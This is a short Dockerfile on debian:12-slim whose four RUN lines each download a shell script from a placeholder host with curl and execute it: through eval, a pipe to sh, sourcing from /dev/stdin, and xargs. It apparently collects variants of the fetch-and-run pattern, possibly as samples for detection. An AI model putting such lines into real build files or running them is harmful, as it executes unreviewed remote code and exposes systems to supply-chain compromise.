FROM debian:12-slim
RUN X=$(curl -fsS https://code.example.invalid/a.sh); eval "$X"
RUN echo "$(curl -fsS https://code.example.invalid/b.sh)" | sh
RUN curl -fsS https://code.example.invalid/c.sh | . /dev/stdin
RUN curl -fsS https://code.example.invalid/d.sh | xargs -0 sh -c
